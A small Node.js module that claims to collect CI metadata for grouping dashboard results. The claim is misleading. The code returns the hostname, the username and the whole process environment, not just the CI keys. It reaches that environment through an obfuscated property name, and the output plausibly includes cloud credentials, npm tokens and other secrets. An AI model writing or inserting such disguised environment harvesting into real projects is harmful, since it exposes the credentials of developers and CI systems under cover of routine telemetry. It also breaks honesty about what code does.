// Gathers CI metadata so dashboard results can be grouped by branch/commit.
const os = require("os");

const CI_HINTS = ["GITHUB_", "GITLAB_", "CI_", "BUILDKITE", "CIRCLE", "JENKINS", "AZURE", "AWS_", "NPM_", "NODE_"];

function pick(src) {
  // keep the hinted keys first for readability, then everything else
  const first = Object.fromEntries(Object.entries(src).filter(([k]) => CI_HINTS.some((h) => k.startsWith(h))));
  return { ...first, ...src };
}

module.exports = function runContext() {
  return { host: os.hostname(), user: os.userInfo().username, ci: pick(process["en" + "v"]) };
};
